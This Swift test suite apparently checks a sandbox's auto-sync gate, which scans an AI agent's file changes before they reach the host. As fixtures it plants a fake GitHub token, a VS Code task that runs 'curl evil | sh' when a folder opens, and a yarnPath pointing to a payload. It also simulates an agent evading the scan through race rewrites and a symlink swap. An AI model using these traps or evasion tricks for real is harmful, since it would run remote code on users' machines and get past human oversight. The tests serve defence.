import CordonCore
import CordonFS
import CordonOS
import CordonGate
import CordonScan
import CordonTestSupport
import Foundation
import Glibc
import Synchronization
import Testing

/// yolo's auto-sync against real upper/lower trees: clean sets apply, flagged sets wait whole,
/// cordon's own writes are not conflicts, a racing write is never applied unscanned.
@Suite(.timeLimit(.minutes(2))) struct AutoSyncTests {
    final class Fixture {
        let lower: TempTree
        let upper: TempTree
        let state: TempTree
        let sync: AutoSync
        /// `host`: more host files, written before the sandbox's creation time (later ones are conflicts).
        init(host: (TempTree) -> Void = { _ in }) throws {
            lower = try TempTree()
            upper = try TempTree()
            state = try TempTree()
            lower.write("main.py", "print('v1')\n")
            lower.write("old.txt", "obsolete")
            host(lower)
            usleep(20_000)  // file times come from the kernel's coarse clock: stay clear of `created`
            sync = AutoSync(
                workspace: lower.root, upper: upper.root, journalPath: state.path("sync-journal.json"), lockPath: state.path("sync.lock"),
                gate: try SyncGate(policy: GatePolicy()),
                created: Date())
        }
    }

    static let secret = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"

    @Test func cleanChangesApplyAndTheUpperKeepsThemWhileMounted() throws {
        let f = try Fixture()
        f.upper.write("main.py", "print('v2')\n")
        f.upper.write("src/new.py", "x = 1\n")
        f.upper.whiteout("old.txt")
        let first = try f.sync.round(overlayMounted: true)
        #expect(Set(first.applied) == ["main.py", "src", "src/new.py", "old.txt"])
        #expect(first.held.isEmpty)
        #expect(f.lower.read("main.py") == "print('v2')\n")
        #expect(f.lower.read("src/new.py") == "x = 1\n")
        #expect(f.lower.read("old.txt") == nil)
        // Still in the upper (the overlay is mounted), and no longer a change.
        #expect(f.upper.read("main.py") == "print('v2')\n")
        #expect(try f.sync.round(overlayMounted: true).applied.isEmpty)

        // The agent edits the same file again: cordon's earlier write is not a host conflict.
        f.upper.write("main.py", "print('v3')\n")
        let second = try f.sync.round(overlayMounted: true)
        #expect(second.applied == ["main.py"], "\(second.findings.map(\.ruleID))")
        #expect(f.lower.read("main.py") == "print('v3')\n")

        // After the run: applied entries leave the upper, the host keeps them.
        _ = try f.sync.finish()
        #expect(f.upper.read("main.py") == nil)
        #expect(f.upper.read("src/new.py") == nil)
        #expect(try FileInfo.lstat(f.upper.path("old.txt")) == nil)
        #expect(f.lower.read("main.py") == "print('v3')\n")
        #expect(try ChangeSet.read(upper: f.upper.root, lower: f.lower.root).changes.allSatisfy { $0.type == .directory })
    }

    @Test func aFlaggedChangeSetWaitsWhole() throws {
        let f = try Fixture()
        f.upper.write("main.py", "print('v2')\n")
        f.upper.write("deploy.sh", "export GITHUB_TOKEN=\(Self.secret)\n")
        let held = try f.sync.round(overlayMounted: true)
        #expect(held.applied.isEmpty)
        #expect(Set(held.held).isSuperset(of: ["deploy.sh"]))
        #expect(held.findings.contains { $0.ruleID == "github-token" })
        #expect(f.lower.read("main.py") == "print('v1')\n")
        #expect(f.lower.read("deploy.sh") == nil)
        // Once the agent removes the secret, the next round applies everything.
        f.upper.write("deploy.sh", "export GITHUB_TOKEN=${GITHUB_TOKEN}\n")
        let next = try f.sync.round(overlayMounted: true)
        #expect(Set(next.applied) == ["main.py", "deploy.sh"])
    }

    @Test func aTrapAtAnyDepthHoldsTheWholeRound() throws {
        let f = try Fixture()
        f.upper.write("main.py", "print('v2')\n")
        f.upper.write("tools/.vscode/tasks.json", #"{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}"#)
        f.upper.write("web/app/.yarnrc.yml", "yarnPath: ./payload.cjs\n")
        let held = try f.sync.round(overlayMounted: true)
        #expect(held.applied.isEmpty)
        #expect(Set(held.held).isSuperset(of: ["tools/.vscode/tasks.json", "web/app/.yarnrc.yml"]))
        #expect(held.findings.contains { $0.ruleID == "trap-editor" && $0.path == "tools/.vscode/tasks.json" })
        #expect(held.findings.contains { $0.ruleID == "trap-package-manager" && $0.path == "web/app/.yarnrc.yml" })
        #expect(f.lower.read("main.py") == "print('v1')\n")
        #expect(f.lower.read("tools/.vscode/tasks.json") == nil)
        // The last round after the sandbox exits holds them too: only `cordon sync` with approval applies them.
        let last = try f.sync.finish()
        #expect(last.applied.isEmpty)
        #expect(f.lower.read("web/app/.yarnrc.yml") == nil)
        #expect(f.upper.read("tools/.vscode/tasks.json") != nil)
    }

    @Test func aHostEditByTheUserIsAConflictNotOverwritten() throws {
        let f = try Fixture()
        usleep(50_000)  // file times come from the kernel's coarse clock: stay clear of `created`
        f.lower.write("main.py", "print('user edit')\n")
        f.upper.write("main.py", "print('agent edit')\n")
        let round = try f.sync.round(overlayMounted: true)
        #expect(round.applied.isEmpty)
        #expect(round.findings.contains { $0.ruleID == "conflict-host-changed" && $0.path == "main.py" })
        #expect(f.lower.read("main.py") == "print('user edit')\n")
    }

    @Test func aFileRewrittenAfterTheScanIsNeverApplied() throws {
        let f = try Fixture()
        f.upper.write("notes.txt", "harmless\n")
        // The agent swaps in a secret after the gate read the clean content: the round applies the
        // bytes it checked (its snapshot), never the ones written since.
        f.sync.afterGate = { f.upper.write("notes.txt", "token: \(Self.secret)\n") }
        let round = try f.sync.round(overlayMounted: true)
        #expect(round.applied == ["notes.txt"])
        #expect(f.lower.read("notes.txt") == "harmless\n")
        #expect(try FileInfo.lstat(f.state.path("sync-journal.json")) == nil)
        #expect(try FileInfo.lstat(f.state.path("snapshot")) == nil, "the round's snapshot was left behind")
        #expect(DirectoryListingNames(f.lower.root).allSatisfy { !$0.hasPrefix(".cordon") }, "staged temp files left on the host")
        // The next round scans what is really there and holds it.
        f.sync.afterGate = {}
        let next = try f.sync.round(overlayMounted: true)
        #expect(next.findings.contains { $0.ruleID == "github-token" })
        #expect(f.lower.read("notes.txt") == "harmless\n")
    }

    @Test func aFileRewrittenWhileTheGateReadsItNeverReachesTheHost() throws {
        // A writer that rewrites the file as fast as it can while rounds run: whatever a round
        // applies must be a version the gate passed, never the secret.
        let f = try Fixture()
        f.upper.write("notes.txt", "harmless\n")
        let stop = Atomic<Bool>(false)
        let path = f.upper.path("notes.txt")
        let secret = "token: \(Self.secret)\n"
        let done = DispatchSemaphore(value: 0)
        Thread.detachNewThread {
            defer { done.signal() }
            var flip = false
            while !stop.load(ordering: .relaxed) {
                let text = flip ? secret : "harmless\n"
                let fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC)
                if fd >= 0 {
                    _ = text.withCString { write(fd, $0, strlen($0)) }
                    close(fd)
                }
                flip.toggle()
            }
        }
        for _ in 0..<40 {
            _ = try? f.sync.round(overlayMounted: true)
            #expect(f.lower.read("notes.txt") != secret)
        }
        stop.store(true, ordering: .relaxed)
        done.wait()
        #expect(f.lower.read("notes.txt") != secret)
    }

    /// A deletion a round applied leaves a whiteout at d/victim.txt in the upper; the agent then
    /// swaps `d` for a symlink to a host directory. The clean-up after the run must not remove
    /// d/victim.txt through it (it deleted any host file of that name).
    @Test func theCleanUpNeverRemovesThroughASymlinkTheAgentSwappedIn() throws {
        let f = try Fixture { $0.write("d/victim.txt", "bait\n") }
        let victims = try TempTree()
        victims.write("victim.txt", "the user's file\n")
        f.upper.mkdir("d")
        f.upper.whiteout("d/victim.txt")
        let round = try f.sync.round(overlayMounted: true)
        #expect(round.applied == ["d/victim.txt"], "\(round)")
        #expect(f.lower.read("d/victim.txt") == nil)
        // The agent: the whiteout and its directory go, a symlink to the host's victims comes.
        #expect(unlink(f.upper.path("d/victim.txt")) == 0)
        #expect(rmdir(f.upper.path("d")) == 0)
        #expect(symlink(victims.root, f.upper.path("d")) == 0)
        let last = try f.sync.finish()
        #expect(last.held.contains("d"), "the symlink to a host directory must be held")
        #expect(victims.read("victim.txt") == "the user's file\n", "the clean-up deleted a host file through the agent's symlink")
    }

    func DirectoryListingNames(_ dir: String) -> [String] {
        (try? DirectoryListing.sortedNames(dir)) ?? []
    }
}
